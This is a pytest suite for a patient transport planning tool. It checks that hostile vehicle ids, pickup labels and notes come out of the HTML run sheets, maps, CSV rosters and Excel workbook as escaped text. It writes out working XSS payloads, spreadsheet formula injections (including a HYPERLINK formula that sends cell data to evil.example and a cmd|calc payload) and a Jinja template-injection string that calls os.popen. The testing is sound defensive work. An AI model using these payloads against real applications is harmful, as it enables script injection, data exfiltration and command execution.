"""Hostile text in the day's files: no script runs, no formula, no broken or shared name."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from pts_optimiser.check.checker import check_plan
from pts_optimiser.cli import main
from pts_optimiser.domain.config import load_config
from pts_optimiser.domain.safe import (
    FILE_STEM_MAX,
    FORMULA_START,
    RESERVED_FILES,
    SHEET_MAX,
    clean,
    file_stems,
    from_cell,
    html_text,
    script_json,
    sheet_names,
    to_cell,
)
from pts_optimiser.io.parse import Inputs, read_problem
from pts_optimiser.io.planfolder import read_plan
from tests.helpers import ROOT, rows

# Each payload marks the page's <body> if it ever runs, so a browser test can see it did.
MARK = "document.body.setAttribute('data-pwned','{}')"
# Ids are at most 64 characters (parse refuses longer): a payload that fits, setting the same
# data-pwned attribute.
HOSTILE_ID = '"><svg onload="document.body.setAttribute(\'data-pwned\',1)">'
HOSTILE_TYPE = f'"><img src=x onerror="{MARK.format("type")}">'
LONG_A = "LONGPREFIX_0123456789_0123456789_A"
LONG_B = "LONGPREFIX_0123456789_0123456789_B"
VEHICLES = [HOSTILE_ID, "A 1", "A_1", "A.1", "overview", "unassigned", "summary", "all",
            "x" * 64, "a/b:c[d]*?", LONG_A, LONG_B]
LABELS = [
    f"<img src=x onerror=\"{MARK.format('label')}\">",
    "${" + MARK.format("template") + "}",
    "Flat ${2",
    "`;" + MARK.format("backtick") + ";`",
    "</script><script>" + MARK.format("script") + "</script>",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+44 1332 000000",
    "-2+3+cmd|' /C calc'!A0",
    "Flat\x0b2 \u202eevil\u202c Road",
    "line\u2028break",
]
NOTE = "=cmd|' /C calc'!A0"
HOME_LAT = [52.91234 + 0.00817 * i for i in range(len(VEHICLES))]
HOME_LON = [-1.47321 - 0.00611 * i for i in range(len(VEHICLES))]


def _write(path: Path, header: list[str], records: list[list[object]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(header)
        writer.writerows(records)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A day whose ids, types, labels and notes are hostile, planned with `pts solve`.

    One journey an hour and one short shift around each, so every vehicle shift is used.
    """
    work = tmp_path_factory.mktemp("hostile")
    day = work / "day"
    day.mkdir()
    bookings, fleet = [], []
    for i, (vehicle_id, label) in enumerate(zip(VEHICLES, LABELS, strict=True)):
        hour = 7 + i
        bookings.append([f"J{i:02d}", f"P{i:02d}", "outpatient", "seated", 0,
                         f"{HOME_LAT[i]:.5f}", f"{HOME_LON[i]:.5f}", label, "RDH",
                         f"{hour:02d}:00", f"{hour - 1:02d}:45", f"{hour:02d}:00",
                         NOTE if i % 2 else "bring letter", "Derby"])
        fleet.append([vehicle_id, HOSTILE_TYPE if i == 1 else "car", "ST-DERBY", 1, 0, 0, 1,
                      f"{hour - 1:02d}:00", f"{hour:02d}:40", 30, "diesel"])
    _write(day / "bookings.csv", ["journey_id", "patient_id", "purpose", "mobility", "escorts",
                                  "pickup_lat", "pickup_lon", "pickup_label", "dropoff_site",
                                  "appointment_time", "earliest_dropoff", "latest_dropoff",
                                  "ward_note", "district"], bookings)
    _write(day / "fleet.csv", ["vehicle_id", "vehicle_type", "base_site", "seats",
                               "wheelchair_spaces", "stretchers", "crew", "shift_start",
                               "shift_end", "break_min", "fuel"], fleet)
    result = CliRunner().invoke(main, [
        "solve", "--bookings", str(day / "bookings.csv"), "--fleet", str(day / "fleet.csv"),
        "--out", str(work / "plan"), "--time-limit", "8", "--maps", str(work / "maps")])
    assert result.exit_code == 0, result.output
    return work


def _problem(work: Path):  # type: ignore[no-untyped-def]
    day = work / "day"
    return read_problem(Inputs(day / "bookings.csv", day / "fleet.csv"), load_config())[0]


def _used(work: Path) -> list[str]:
    found = [r["vehicle_id"] for r in rows(work / "plan" / "rosters.csv")
             if r["event"] == "pickup"]
    return list(dict.fromkeys(found))


def test_every_hostile_vehicle_is_planned_and_checked(hostile: Path) -> None:
    """The hostile day solves, every shift is used, and the checker passes the plan."""
    assert sorted(_used(hostile)) == sorted(VEHICLES)
    result = check_plan(_problem(hostile), hostile / "plan")
    assert not result.violations, result.summary()


def test_run_sheets_and_maps_get_one_legal_file_each(hostile: Path) -> None:
    """Punctuated, reserved and long ids each get their own legal file; overview/all stay ours."""
    legal = re.compile(r"[A-Za-z0-9_-]+")
    sheets = sorted(p.stem for p in (hostile / "plan" / "runsheets").glob("*.html"))
    maps = sorted(p.stem for p in (hostile / "maps").glob("*.html"))
    for stems in (sheets, maps):
        own = [s for s in stems if s not in ("all", "overview")]
        assert len(own) == len(VEHICLES)
        assert len({s.casefold() for s in own}) == len(own)
        assert all(legal.fullmatch(s) and len(s) <= FILE_STEM_MAX for s in own)
        assert not {s.casefold() for s in own} & set(RESERVED_FILES)
    overview = (hostile / "maps" / "overview.html").read_text()
    assert overview.count('"marks"') == len(VEHICLES)  # the overview has every run
    combined = (hostile / "plan" / "runsheets" / "all.html").read_text()
    assert combined.count("<section class=sheet>") == len(VEHICLES)


def test_workbook_sheets_are_distinct_and_typed(hostile: Path) -> None:
    """Summary, Not planned, a sheet per shift; no formula cell; numbers are numbers."""
    from openpyxl import load_workbook

    book = load_workbook(hostile / "plan" / "plan.xlsx")
    assert book.sheetnames[:2] == ["Summary", "Not planned"]
    vehicle_sheets = book.worksheets[2:]
    assert len(vehicle_sheets) == len(VEHICLES)
    assert all(len(s.title) <= SHEET_MAX for s in vehicle_sheets)
    journeys = [sorted({c.value for c in s["C"][1:] if c.value}) for s in vehicle_sheets]
    assert sorted(j for js in journeys for j in js) == [f"J{i:02d}" for i in range(len(VEHICLES))]
    assert all(len(js) == 1 for js in journeys)
    labels = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str) and cell.value[:1] in FORMULA_START:
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    labels.add(cell.value)
                    assert clean(cell.value) == cell.value
    assert clean(LABELS[5]) in labels and NOTE in labels
    first = vehicle_sheets[0]
    headers = [c.value for c in first[1]]
    km = first.cell(row=3, column=headers.index("km from previous stop") + 1).value
    lon = first.cell(row=3, column=headers.index("Longitude") + 1).value
    assert isinstance(km, float) and isinstance(lon, float) and lon < 0
    assert first.freeze_panes == "A2" and first.auto_filter.ref
    summary = {r[0].value: r[1].value for r in book["Summary"].iter_rows(min_row=2)}
    assert summary["Journeys planned"] == len(VEHICLES)
    assert not any(isinstance(v, str) and "{" in v for v in summary.values())  # no JSON


def test_csv_cells_open_as_text_in_a_spreadsheet(hostile: Path) -> None:
    """rosters.csv cells never start like a formula; negative longitudes stay numbers."""
    number = re.compile(r"-?\d+(\.\d+)?")
    cells = [cell for r in rows(hostile / "plan" / "rosters.csv") for cell in r.values()]
    for cell in cells:
        assert cell[:1] not in FORMULA_START or number.fullmatch(cell), cell
    assert "'" + LABELS[5] in cells and "'" + NOTE in cells
    assert any(number.fullmatch(c) and c.startswith("-1.") for c in cells)


def test_a_column_named_like_a_formula_opens_as_text(tmp_path: Path) -> None:
    """A booking's own column carried into a plan's CSV: its header is quoted like a cell.

    Until the thirty-fifth stop the header went out as written, and a spreadsheet opening
    rosters.csv ran it.
    """
    from pts_optimiser.io.tables import read_table, write_table

    name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    write_table(tmp_path / "t.csv", ["journey_id", name], [{"journey_id": "J1", name: "x"}])
    header = next(csv.reader((tmp_path / "t.csv").open(encoding="utf-8")))
    assert header == ["journey_id", "'" + name]
    table = read_table(tmp_path / "t.csv")
    assert table.columns == ("journey_id", name) and table.rows[0][name] == "x"


def test_the_reports_figures_read_back_as_written(hostile: Path) -> None:
    """report.html's JSON block gives each vehicle id exactly, `<`, `&` and quotes too.

    Until the thirty-fifth stop it was HTML-escaped, so JSON.parse read `&lt;svg...`.
    """
    from tests.helpers import report_figures

    shifts = report_figures(hostile / "plan")["shifts"]
    assert isinstance(shifts, list)
    assert {shift["vehicle_id"] for shift in shifts} == set(VEHICLES)
    page = (hostile / "plan" / "report.html").read_text(encoding="utf-8")
    assert "<svg" not in page.split('id="figures">')[1].split("</script>")[0]


def test_plan_reads_back_with_the_labels_as_written(hostile: Path) -> None:
    """Reading the plan folder back gives each stop's label as read, quote and all gone.

    Formula-like labels come back exactly as booked; control characters were cleaned when
    the bookings were read, and stay cleaned.
    """
    problem = _problem(hostile)
    plan = read_plan(problem, hostile / "plan")
    shown = {s.journey.journey_id: s.label for r in plan.rosters for s in r.stops
             if s.journey is not None and s.event.value == "pickup"}
    assert shown == {j.journey_id: j.pickup.label for j in problem.journeys}
    assert all(shown[f"J{i:02d}"] == LABELS[i] for i in range(5, 10))
    assert "\x0b" not in shown["J10"] and "\u2028" not in shown["J11"]


def test_pages_hold_the_payloads_as_text_only(hostile: Path) -> None:
    """Run sheets and report escape markup; maps hold no markup, `${` or script end at all."""
    html = (hostile / "plan" / "runsheets" / "all.html").read_text()
    html += (hostile / "plan" / "report.html").read_text()
    assert "<img" not in html and "&lt;img src=x" in html
    assert "<script>document" not in html and "\u202e" not in html and "\x0b" not in html
    for page in (hostile / "maps").glob("*.html"):
        text = page.read_text()
        assert "<img" not in text
        assert "${" not in text and "</script><script>doc" not in text
        assert "\u2028" not in text


def test_privacy_hides_home_labels_and_exact_bounds(hostile: Path) -> None:
    """--privacy: no home label or exact coordinate anywhere, bounds from blurred points."""
    private = hostile / "private"
    result = CliRunner().invoke(main, ["map", "--plan", str(hostile / "plan"), "--maps",
                                       str(private), "--privacy"])
    assert result.exit_code == 0, result.output
    text = "".join(p.read_text() for p in private.glob("*.html"))
    for lat, lon in zip(HOME_LAT, HOME_LON, strict=True):
        assert f"{lat:.5f}" not in text and f"{lon:.5f}" not in text
    assert "Flat" not in text and "HYPERLINK" not in text
    data = _data(private / "overview.html")
    popups = [line for run in data["runs"] for m in run["marks"] for line in m["popup"]]
    assert any("home (Derby)" in line for line in popups)
    for corner in data["bounds"]:
        assert all(round(v, 2) == v or _is_site(v) for v in corner)


def _is_site(value: float) -> bool:
    """A coordinate of a shipped site (drawn exactly: it is no one's home)."""
    sites = rows(ROOT / "data" / "sites.csv")
    return any(value in (float(s["lat"]), float(s["lon"])) for s in sites)


def _data(page: Path) -> dict[str, Any]:
    found = re.search(r'<script type="application/json" id="pts-data">(.*?)</script>',
                      page.read_text(), re.S)
    assert found is not None
    return dict(json.loads(found.group(1)))


def test_html_text_escapes_for_element_and_attribute() -> None:
    """HTML text: <, >, &, both quotes escaped; control, bidi and noncharacters gone."""
    assert html_text('<a href="x">\'&\x0b\u202e') == "&lt;a href=&quot;x&quot;&gt;&#x27;&amp;"
    assert clean("a\ufffe\U0001ffffb\x00c\td") == "abc d"


@given(st.text())
def test_script_json_cannot_leave_its_context(text: str) -> None:
    """script_json of any text leaves no raw <, >, &, `, $, ' or U+2028/9 and reads back."""
    out = script_json({"k": [text]})
    assert not set(out) & set("<>&`$'\u2028\u2029")
    assert json.loads(out) == {"k": [text]}


@given(st.text())
def test_cells_round_trip(text: str) -> None:
    """from_cell undoes to_cell for every text, and to_cell leaves nothing formula-like."""
    cell = to_cell(text)
    assert from_cell(cell) == text
    assert cell[:1] not in FORMULA_START or re.fullmatch(r"[+-]?[\d.eE+-]+", cell)


def test_numbers_stay_numbers() -> None:
    """A negative longitude or a signed number is not quoted; a formula is."""
    assert to_cell("-1.4932") == "-1.4932" and to_cell("+3") == "+3"
    assert to_cell("-1+2") == "'-1+2" and to_cell("\t=1") == "'\t=1"


def test_file_and_sheet_names_are_unique_legal_and_stable() -> None:
    """Names from awkward ids are distinct, legal, bounded, unreserved and order-independent."""
    ids = ["A 1", "A_1", "A.1", "a_1", "overview", "Summary", "Not planned", "x" * 250,
           "a/b", "tab\there", "ctl\x01", LONG_A, LONG_B, "DBY01", ""]
    for names, limit, bad in ((file_stems(ids), FILE_STEM_MAX, re.compile(r"[^A-Za-z0-9_-]")),
                              (sheet_names(ids), SHEET_MAX, re.compile(r"[\[\]:*?/\\\x00-\x1f]"))):
        values = list(names.values())
        assert len({v.casefold() for v in values}) == len(ids)
        assert all(0 < len(v) <= limit and not bad.search(v) for v in values)
        assert names["DBY01"] == "DBY01"
    assert not {v.casefold() for v in file_stems(ids).values()} & set(RESERVED_FILES)
    assert not {v for v in sheet_names(ids).values()} & {"Summary", "Not planned"}
    assert file_stems(reversed(ids)) == file_stems(ids)


def test_written_table_reads_back_exactly(tmp_path: Path) -> None:
    """A CSV we write (rosters, bookings copies, changes) reads back cell for cell as given."""
    from pts_optimiser.io.tables import read_table, write_table

    cells = [*LABELS[5:10], NOTE, "-1.4932", "'=already quoted", "''@twice", "plain", ""]
    write_table(tmp_path / "t.csv", ["k", "v"], [{"k": f"r{i}", "v": c}
                                                  for i, c in enumerate(cells)])
    table = read_table(tmp_path / "t.csv")
    assert [r["v"] for r in table.rows] == [c.strip() for c in cells]


def test_workbook_never_fails_on_content(hostile: Path, tmp_path: Path) -> None:
    """Labels with every kind of unwritable character, or too long for a cell, still write."""
    from dataclasses import replace

    from openpyxl import load_workbook

    from pts_optimiser.views.workbook import write_workbook
    from pts_optimiser.views.writers import summary

    plan = read_plan(_problem(hostile), hostile / "plan")
    nasty = "\x00\x01\x0b\x1f\ud800\ufffe\uffff\ufdd0\u202e=1+1" + "x" * 40_000
    roster = plan.rosters[0]
    stops = tuple(replace(s, label=nasty) for s in roster.stops)
    plan = replace(plan, rosters=(replace(roster, stops=stops), *plan.rosters[1:]))
    write_workbook(plan, tmp_path / "plan.xlsx", summary(plan), ["ward_note"])
    sheet = load_workbook(tmp_path / "plan.xlsx").worksheets[2]
    label = sheet.cell(row=2, column=5)
    assert label.value.startswith("=1+1x") and label.data_type == "s" and label.quotePrefix


def test_a_tiles_credit_is_shown_as_text(tmp_path: Path) -> None:
    """Leaflet sets the credit as HTML: markup in `[maps] tiles_credit` must arrive escaped.

    The policy may come from a night's inbox; before 2026-12-07 `<img onerror=...>` there
    went into the page as markup.
    """
    policy = tmp_path / "policy.toml"
    policy.write_text('[maps]\ntiles = "https://tiles.example/{z}/{x}/{y}.png"\n'
                      'tiles_credit = "<img src=x onerror=alert(1)>"\n', encoding="utf-8")
    day = ROOT / "tests" / "fixtures" / "tiny_day"
    out = tmp_path / "plan"
    result = CliRunner().invoke(main, [
        "solve", "--bookings", str(day / "bookings.csv"), "--fleet", str(day / "fleet.csv"),
        "--config", str(policy), "--out", str(out), "--time-limit", "5"])
    assert result.exit_code == 0, result.output
    page = (out / "maps" / "overview.html").read_text()
    assert '"attribution": "\\u0026lt;img src=x onerror=alert(1)\\u0026gt;"' in page
    assert "img src=x onerror" not in page.replace("\\u0026lt;img src=x onerror", "")


def test_privacy_asked_once_holds_for_the_plans_made_from_it(hostile: Path,
                                                             tmp_path: Path) -> None:
    """`pts solve --privacy` is recorded in the plan's policy: its redrawn maps blur too.

    Before 2026-12-07 the flag was not recorded, and `pts map` or `pts replan` of the plan
    drew every home exactly.
    """
    day = hostile / "day"
    out = tmp_path / "plan"
    result = CliRunner().invoke(main, [
        "solve", "--bookings", str(day / "bookings.csv"), "--fleet", str(day / "fleet.csv"),
        "--out", str(out), "--time-limit", "5", "--privacy"])
    assert result.exit_code == 0, result.output
    assert "privacy = true" in (out / "inputs" / "config.toml").read_text()
    redrawn = CliRunner().invoke(main, ["map", "--plan", str(out)])
    assert redrawn.exit_code == 0, redrawn.output
    text = "".join(p.read_text() for p in (out / "maps").glob("*.html"))
    for lat, lon in zip(HOME_LAT, HOME_LON, strict=True):
        assert f"{lat:.5f}" not in text and f"{lon:.5f}" not in text


def test_template_syntax_in_the_days_files_is_only_text_on_the_maps(tmp_path: Path) -> None:
    """`{{ }}`, `{% %}` and `{#` in ids and labels: drawn as written, never run.

    folium compiles an element's text as a Jinja template. Until the thirty-seventh stop a
    label `{{ lipsum.__globals__.os.popen(...) }}` ran a shell command as the map was drawn
    (on the board's server too, at Publish), `{{7*6}}` showed as 42, and a stray `{{`
    stopped the plan being written with the cell's text on stderr.
    """
    from tests.helpers import booking, vehicle, write_day

    touched = tmp_path / "touched"
    labels = ["{{7*6}}", "{% if true %}yes{% endif %}", "Flat {# 2", "Stray {{ brace",
              "{{ lipsum.__globals__.os.popen('touch " + str(touched) + "').read() }}"]
    vehicle_id = "{{7*7}}"
    bookings = [booking(f"J{i}", pickup_label=label, pickup_lat=52.90 + 0.01 * i,
                        appointment_time=f"{9 + 2 * i:02d}:00") for i, label in enumerate(labels)]
    inputs = write_day(tmp_path / "day", bookings,
                       [vehicle(vehicle_id, shift_start="07:00", shift_end="19:00")],
                       booking_columns=[*bookings[0]])
    result = CliRunner().invoke(main, [
        "solve", "--bookings", str(inputs.bookings), "--fleet", str(inputs.fleet),
        "--out", str(tmp_path / "plan"), "--time-limit", "5"])
    assert result.exit_code == 0, result.output
    assert not touched.exists()
    for page in (tmp_path / "plan" / "maps").glob("*.html"):
        html = page.read_text()
        found = re.search(r'<script type="application/json" id="pts-data">(.*?)</script>',
                          html, re.S)
        assert found is not None, page.name
        shown = json.dumps(json.loads(found.group(1)), ensure_ascii=False)
        for label in labels:
            assert json.dumps(label, ensure_ascii=False)[1:-1] in shown, (page.name, label)
    single = [p for p in (tmp_path / "plan" / "maps").glob("*.html") if p.stem != "overview"]
    assert len(single) == 1
    title = single[0].read_text().split("<title>")[1].split("</title>")[0]
    assert vehicle_id in title and "49" not in title
